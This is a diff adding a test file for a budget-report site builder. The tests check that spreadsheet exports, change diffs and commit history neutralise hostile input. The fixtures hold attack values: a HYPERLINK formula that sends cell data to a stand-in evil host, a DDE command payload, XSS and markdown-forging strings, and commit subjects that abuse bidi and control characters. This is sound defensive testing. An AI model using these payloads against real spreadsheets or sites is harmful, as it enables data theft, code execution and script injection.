@@ -1,0 +1,159 @@
+"""Hostile content in what reaches readers besides pages: spreadsheets, `build.py diff`, git history."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from markdown_it import MarkdownIt
+
+from builder import export
+
+from builder.spreadsheet import spreadsheet_text
+from conftest import PROJECT
+from test_diff import P1, repo  # noqa: F401  (repo is a fixture)
+
+# Text that a spreadsheet would take for a formula, each in a text field of the scratch project.
+FORMULAS = {
+    "project_name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "purpose": "+1+1",
+    "target": "-2+3",
+    "basis": "@SUM(1+1)",
+    "description": "＝1+1",
+    "milestone": "-cmd|' /C calc'!A0",
+}
+
+
+def formula_project() -> str:
+    text = PROJECT
+    for key, old in (("project_name", "name: 测试项目"), ("purpose", "purpose: 测试用途。"),
+                     ("milestone", "milestone: 6月底"), ("target", "target: ≥4次")):
+        field = old.split(":")[0]
+        text = text.replace(old, f"{field}: '{FORMULAS[key].replace(chr(39), chr(39) * 2)}'", 1)
+    return text.replace("    name: 活动次数\n", "    name: 活动次数\n    description: '＝1+1'\n    basis: '@SUM(1+1)'\n"
+                        )
+
+
+@pytest.mark.parametrize("text, safe", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
+    ("测试", "测试"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"),
+])
+def test_spreadsheet_text_starts_no_formula(text, safe):
+    assert spreadsheet_text(text) == safe
+
+
+def test_csv_and_xlsx_cells_never_start_a_formula_and_numbers_stay_numbers(scratch, cli):
+    scratch.project().write_text(formula_project(), encoding="utf-8")
+    run = cli("build", "--no-pdf", cwd=scratch.root)
+    assert run.code == 0, run.err
+    data = scratch.root / "output" / "data" / "all"
+    tables = {name: list(csv.DictReader(io.StringIO((data / f"{name}.csv").read_text(encoding="utf-8-sig"))))
+              for name in ("projects", "spending_plan", "indicators")}
+    project, = tables["projects"]
+    assert project["project_name"] == "'" + FORMULAS["project_name"]
+    assert project["purpose"] == "'+1+1"
+    assert project["budget_total"] == "100000.00"
+    assert tables["spending_plan"][0]["milestone"] == "'" + FORMULAS["milestone"]
+    assert tables["spending_plan"][0]["cumulative_percent"] == "50"
+    first, cost = tables["indicators"][0], tables["indicators"][1]
+    assert (first["target"], first["description"], first["basis"]) == ("'-2+3", "'＝1+1", "'@SUM(1+1)")
+    assert (cost["target"], cost["value"]) == ("≤10万元", "10")
+    every_cell = [v for rows in tables.values() for row in rows for v in row.values()]
+    assert not [v for v in every_cell if v and v[0] in "=+@＝＋－＠\t\r\n" or (v[:1] == "-" and not _number(v))]
+
+    book = openpyxl.load_workbook(data / "data.xlsx")
+    projects, plan, indicators = book["项目"], book["资金支出计划"], book["绩效指标"]
+    header = [c.value for c in projects[1]]
+    row = dict(zip(header, [c for c in projects[2]], strict=True))
+    assert row["项目名称"].value == "'" + FORMULAS["project_name"] and row["项目名称"].data_type == "s"
+    assert row["预算数"].value == 100000 and row["预算数"].data_type == "n"
+    assert plan.cell(2, 4).value == "'" + FORMULAS["milestone"] and plan.cell(2, 5).value == 50
+    header = [c.value for c in indicators[1]]
+    cost = dict(zip(header, [c.value for c in indicators[3]], strict=True))
+    assert cost["指标值"] == "≤10万元" and cost["数值"] == 10
+    for sheet in book.worksheets:
+        for cells in sheet.iter_rows(min_row=2):
+            for cell in cells:
+                assert cell.data_type != "f", cell.coordinate
+                if isinstance(cell.value, str):
+                    assert cell.value[:1] not in "=+-@＝＋－＠\t\r\n", (sheet.title, cell.coordinate, cell.value)
+
+
+def test_a_negative_amount_is_a_number_not_text():
+    """Content has no negative amounts today; if one comes, it must not be quoted as a formula would."""
+    row = {"budget_total": Decimal("-100.00"), "project_name": "-100.00"}
+    encoded = export.encode({"projects": [row], "spending_plan": [], "goals": [], "indicators": []})
+    cells = next(csv.reader(io.StringIO(encoded.csv["projects"])))
+    columns = [c.key for c in export.TABLES["projects"][1]]
+    assert cells[columns.index("budget_total")] == "-100.00"
+    assert cells[columns.index("project_name")] == "'-100.00"  # text that looks like a number stays text
+    assert '<c s="2"><v>-100.00</v></c>' in encoded.xlsx["projects"]
+
+
+def _number(text: str) -> bool:
+    try:
+        Decimal(text)
+    except ArithmeticError:
+        return False
+    return True
+
+
+# A value that tries to pass for more entries, a table row, a heading, a link and markup.
+FORGED = "正常用途\n- 预算 fake entry\n| x | y |\n# 标题\n<script>alert(1)</script>"
+
+
+def test_a_change_is_one_entry_in_every_diff_format_whatever_its_values(repo, cli):  # noqa: F811
+    repo.edit(P1, "purpose: 积极开展", "purpose: |-\n  " + FORGED.replace("\n", "\n  ") + "\n  积极开展")
+    repo.edit(P1, "target: ≥70百分比", "target: '| x | y |'")
+    repo.edit(P1, "basis: 2022年招商引资工作计划", "basis: '[点击](javascript:alert(1)) **粗** `码` <img src=x onerror=alert(1)> &lt;'")
+    repo.commit("恶意修改")
+    changes = json.loads(cli("diff", "approved", "HEAD", "--format", "json", cwd=repo.root).out)
+    assert sorted(c["kind"] for c in changes) == ["basis-changed", "purpose-changed", "target-changed"]
+    assert any(FORGED in c["after"] for c in changes)  # JSON keeps values exactly
+
+    text = cli("diff", "approved", "HEAD", cwd=repo.root).out
+    assert len(text.splitlines()) == 3 and all(line.startswith("[2022 304001 ") for line in text.splitlines())
+
+    markdown = cli("diff", "approved", "HEAD", "--format", "markdown", cwd=repo.root).out
+    lines = markdown.splitlines()
+    assert lines[:2] == ["# approved → HEAD", ""] and len(lines) == 5 and all(x.startswith("- [2022") for x in lines[2:])
+    page = MarkdownIt("commonmark").enable("table").render(markdown)
+    assert page.count("<li>") == 3 and page.count("<h1>") == 1
+    for made in ("<script", "<img", "<a ", "<table", "<strong", "<code", "<ul>\n<li>预算"):
+        assert made not in page, (made, page)
+    assert "| x | y |" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;lt;" in page
+
+    html = cli("diff", "approved", "HEAD", "--format", "html", cwd=repo.root).out
+    assert html.count("<li>") == 3 and "<script" not in html and "<img" not in html
+
+
+HOSTILE_SUBJECTS = [
+    # The old log format split records at \x1e and fields at \x1f: this one forged a revision.
+    "调整指标\x1e" + "0" * 40 + "\x1f2000-01-01\x1f伪造的修订",
+    "预算\u202e整调\u2066",  # bidi overrides: the page would show it reversed
+    "零宽\u200b字符\x1b[31m红色\x07",
+]
+
+
+def test_hostile_commit_subjects_and_authors_build_and_show_neutralised(repo, cli, tmp_path):  # noqa: F811
+    for n, subject in enumerate(HOSTILE_SUBJECTS):
+        repo.edit(P1, f"target: ≥{70 + n}百分比", f"target: ≥{71 + n}百分比")
+        repo.git("add", "-A")
+        repo.git("-c", "user.name=作者\u202e\x1f\x1e", "commit", "-q", "--author", "作者\u202e\x1f <a@b.invalid>",
+                 "-m", subject)
+    run = cli("build", "--no-pdf", "--output", str(tmp_path / "out"), cwd=repo.root)
+    assert run.code == 0, run.err
+    page = (tmp_path / "out/2022/304001/projects/13022922P00JXC411757B.html").read_text(encoding="utf-8")
+    history = page[page.index('id="history"'):]
+    subjects = re.findall(r'<td class="num">[\d-]+</td>\s*<td>([^<]*)</td>', history)
+    assert subjects == ["零宽\ufffd字符\ufffd[31m红色\ufffd", "预算\ufffd整调\ufffd", "调整指标\ufffd" + "0" * 40
+                        + "\ufffd2000-01-01\ufffd伪造的修订", "2022年预算绩效目标（人大批准版）"]
+    assert "2000-01-01</td>" not in history
+    for bad in ("\u202e", "\u2066", "\u200b", "\x1b", "\x07", "\x1e", "\x1f", "作者"):
+        assert bad not in page
